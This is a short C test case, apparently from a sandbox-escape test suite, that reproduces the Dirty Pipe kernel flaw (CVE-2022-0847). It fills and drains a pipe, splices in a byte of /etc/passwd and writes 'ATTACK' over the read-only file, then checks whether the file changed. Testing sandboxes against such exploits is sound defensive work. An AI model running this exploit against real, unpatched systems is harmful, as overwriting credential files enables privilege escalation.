/* Write into a file that can only be read, by way of a pipe that remembers an old flag.
 *
 * origin: CVE-2022-0847 (Dirty Pipe)
 * stopped by: a kernel that is patched; the file is the sandbox's own
 * control: none: needs a kernel of 2021
 */
#include "attempt.h"

int main(void)
{
    char before[16] = "", after[16] = "", block[4096] = {0};
    int pair[2], file = open("/etc/passwd", O_RDONLY);
    loff_t at = 0;
    pread(file, before, 15, 0);
    pipe(pair);
    int size = fcntl(pair[1], F_GETPIPE_SZ);
    for (int left = size; left > 0; left -= sizeof block)
        write(pair[1], block, sizeof block);
    for (int left = size; left > 0; left -= sizeof block)
        read(pair[0], block, sizeof block);
    splice(file, &at, pair[1], NULL, 1, 0);
    write(pair[1], "ATTACK", 6);
    pread(open("/etc/passwd", O_RDONLY), after, 15, 0);
    ATTEMPT("a change to /etc/passwd", strcmp(before, after) != 0 || before[0] == 0);
}
